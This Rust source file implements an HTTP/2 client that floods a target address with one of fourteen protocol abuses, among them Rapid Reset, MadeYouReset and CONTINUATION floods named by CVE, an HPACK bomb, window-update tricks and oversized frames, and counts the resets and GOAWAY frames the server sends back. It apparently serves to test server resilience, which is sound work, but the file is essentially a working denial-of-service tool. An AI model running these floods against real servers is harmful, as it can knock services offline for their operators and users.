//! A client that abuses HTTP/2 in one way, and tells how it was answered.

use std::{collections::BTreeMap, net::SocketAddr, time::Duration};

use anyhow::Result;
use serde::{Deserialize, Serialize};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpStream, tcp::OwnedReadHalf},
    sync::watch,
    time::{Instant, timeout_at},
};

use super::frames::{
    ACK, CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADER_BYTES, HEADERS, INITIAL_WINDOW_SIZE,
    Method, NEWEST_FIELD, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, field, frame, header,
    indexed_field, request, setting,
};

/// What is done, again and again.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum Abuse {
    /// Begins requests and cancels them at once (CVE-2023-44487).
    RapidReset,
    /// Makes the server reset streams, by what is wrong on them (CVE-2025-8671).
    MadeYouReset,
    /// One head that never ends (CVE-2024-27316).
    Continuation,
    /// One body of nothing.
    EmptyData,
    /// Settings that want an answer.
    Settings,
    /// Pings that want an answer.
    Ping,
    /// Priorities, which mean nothing any more.
    Priority,
    /// The window of the connection, a byte at a time.
    WindowUpdate,
    /// A window beyond its maximum.
    WindowOverflow,
    /// Asks for large responses and takes a byte of each.
    TinyWindow,
    /// Small heads that mean large ones.
    HpackBomb,
    /// A head above every limit.
    HeaderList,
    /// A frame longer than was agreed.
    OversizedFrame,
    /// Requests that never end, more than may be open.
    TooManyStreams,
}

/// What is to be done.
#[derive(Clone, Debug, clap::Args)]
pub struct FloodArgs {
    /// In which way.
    #[arg(value_enum)]
    pub abuse: Abuse,
    /// Where to connect to.
    #[arg(long, value_name = "ADDR:PORT")]
    pub to: SocketAddr,
    /// Most frames to send on all connections together.
    #[arg(long, default_value_t = 1_000_000)]
    pub frames: u64,
    /// Longest time, milliseconds. Connections that are ended are made again.
    #[arg(long, default_value_t = 2000)]
    pub millis: u64,
}

/// How it was answered.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct FloodReport {
    /// Connections made.
    pub connections: u64,
    /// Connections that the other side ended.
    pub ended: u64,
    /// Frames sent.
    pub frames: u64,
    /// GOAWAY frames by error code.
    pub goaways: BTreeMap<u32, u64>,
    /// RST_STREAM frames by error code.
    pub resets: BTreeMap<u32, u64>,
    /// HEADERS frames.
    pub responses: u64,
}

/// Abuses until the time or the frames are up.
///
/// # Errors
/// When no connection can be made at all.
pub async fn run(args: FloodArgs) -> Result<FloodReport> {
    let deadline = Instant::now() + Duration::from_millis(args.millis);
    let mut report = FloodReport::default();
    while Instant::now() < deadline && report.frames < args.frames {
        let stream = match TcpStream::connect(args.to).await {
            Ok(stream) => stream,
            Err(error) if report.connections == 0 => return Err(error.into()),
            Err(_) => continue,
        };
        report.connections += 1;
        connection(&args, stream, deadline, &mut report).await;
    }
    Ok(report)
}

async fn connection(args: &FloodArgs, stream: TcpStream, deadline: Instant, report: &mut FloodReport) {
    stream.set_nodelay(true).ok();
    let (reader, mut writer) = stream.into_split();
    let (gone, is_gone) = watch::channel(false);
    let listening = tokio::spawn(listen(reader, gone, deadline));
    let window = if args.abuse == Abuse::TinyWindow { 1 } else { 65_535 };
    let mut bytes = [PREFACE, &frame(SETTINGS, 0, 0, &setting(INITIAL_WINDOW_SIZE, window))].concat();
    bytes.extend(frame(SETTINGS, ACK, 0, b""));
    let authority = args.to.to_string();
    let mut round = 0_u32;
    loop {
        // Some frames with each write, because the kernel is not what is tested.
        for _ in 0..16 {
            report.frames += round_frames(args.abuse, round, &authority, &mut bytes);
            round += 1;
        }
        let over = report.frames >= args.frames || *is_gone.borrow();
        if over || !matches!(timeout_at(deadline, writer.write_all(&bytes)).await, Ok(Ok(()))) {
            break;
        }
        bytes.clear();
        // Streams have an odd number of 31 bits, and each of these abuses is over long before.
        if round > 1 << 29 {
            break;
        }
        tokio::task::yield_now().await;
    }
    // What was sent is answered in a moment, or the connection is ended.
    if let Ok(heard) = listening.await {
        report.ended += u64::from(heard.ended);
        report.responses += heard.responses;
        for (sum, add) in [(&mut report.goaways, heard.goaways), (&mut report.resets, heard.resets)] {
            for (code, count) in add {
                *sum.entry(code).or_default() += count;
            }
        }
    }
}

/// One round of an abuse; returns how many frames it is.
fn round_frames(abuse: Abuse, round: u32, authority: &str, bytes: &mut Vec<u8>) -> u64 {
    let stream = 2 * round + 1;
    let get = || request(Method::Get, "/", authority);
    let first_open = |bytes: &mut Vec<u8>, flags: u8| {
        if round == 0 {
            bytes.extend(frame(HEADERS, flags, 1, &request(Method::Post, "/count", authority)));
        }
    };
    match abuse {
        Abuse::RapidReset => {
            bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &get()));
            bytes.extend(frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes()));
            return 2;
        }
        Abuse::MadeYouReset => {
            bytes.extend(frame(HEADERS, END_HEADERS, stream, &request(Method::Post, "/count", authority)));
            // RFC 9113 6.9: an increment of 0 is an error of the stream.
            bytes.extend(frame(WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes()));
            return 2;
        }
        Abuse::Continuation => {
            first_open(bytes, END_STREAM);
            bytes.extend(frame(CONTINUATION, 0, 1, &field("x-more", "and more")));
        }
        Abuse::EmptyData => {
            first_open(bytes, END_HEADERS);
            bytes.extend(frame(DATA, 0, 1, b""));
        }
        Abuse::Settings => bytes.extend(frame(SETTINGS, 0, 0, &setting(INITIAL_WINDOW_SIZE, 65_535))),
        Abuse::Ping => bytes.extend(frame(PING, 0, 0, &u64::from(round).to_be_bytes())),
        Abuse::Priority => bytes.extend(frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 16])),
        Abuse::WindowUpdate => bytes.extend(frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes())),
        Abuse::WindowOverflow => bytes.extend(frame(WINDOW_UPDATE, 0, 0, &0x7fff_ffff_u32.to_be_bytes())),
        Abuse::TinyWindow if round < 100 => {
            let block = request(Method::Get, "/bytes/10000000", authority);
            bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &block));
        }
        Abuse::TinyWindow => {
            let one = 2 * (round % 100) + 1;
            bytes.extend(frame(WINDOW_UPDATE, 0, one, &1_u32.to_be_bytes()));
        }
        Abuse::HpackBomb => {
            let mut block = get();
            if round == 0 {
                block.extend(indexed_field("x-bomb", &"x".repeat(3900)));
            }
            block.extend(std::iter::repeat_n(NEWEST_FIELD, 10_000));
            bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &block));
        }
        Abuse::HeaderList => {
            let mut block = get();
            block.extend(field("x-large", &"x".repeat(15_000)));
            bytes.extend(frame(HEADERS, END_STREAM, stream, &block));
            for _ in 0..4 {
                bytes.extend(frame(CONTINUATION, 0, stream, &field("x-large", &"x".repeat(16_000))));
            }
            bytes.extend(frame(CONTINUATION, END_HEADERS, stream, &field("x-last", "1")));
            return 6;
        }
        Abuse::OversizedFrame => {
            first_open(bytes, END_HEADERS);
            bytes.extend(header(1 << 20, DATA, 0, 1));
            bytes.extend(vec![b'x'; 1 << 16]);
        }
        Abuse::TooManyStreams => {
            bytes.extend(frame(HEADERS, END_HEADERS, stream, &request(Method::Post, "/count", authority)));
        }
    }
    1
}

#[derive(Default)]
struct Heard {
    ended: bool,
    goaways: BTreeMap<u32, u64>,
    resets: BTreeMap<u32, u64>,
    responses: u64,
}

/// Reads until the other side ends, or the time is up.
async fn listen(mut reader: OwnedReadHalf, gone: watch::Sender<bool>, deadline: Instant) -> Heard {
    let mut heard = Heard::default();
    let mut read = Vec::new();
    loop {
        match timeout_at(deadline, reader.read_buf(&mut read)).await {
            Ok(Ok(1..)) => {}
            Ok(_) => {
                heard.ended = true;
                break;
            }
            Err(_) => break,
        }
        let mut at = 0;
        while let Some(head) = read[at..].first_chunk::<HEADER_BYTES>() {
            let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
            let Some(payload) = read.get(at + HEADER_BYTES..at + HEADER_BYTES + length) else { break };
            let code = |from: usize| {
                payload.get(from..from + 4).and_then(|code| code.try_into().ok()).map_or(u32::MAX, u32::from_be_bytes)
            };
            match head[3] {
                HEADERS => heard.responses += 1,
                RST_STREAM => *heard.resets.entry(code(0)).or_default() += 1,
                GOAWAY => *heard.goaways.entry(code(4)).or_default() += 1,
                _ => {}
            }
            at += HEADER_BYTES + length;
        }
        read.drain(..at);
    }
    gone.send_replace(true);
    heard
}
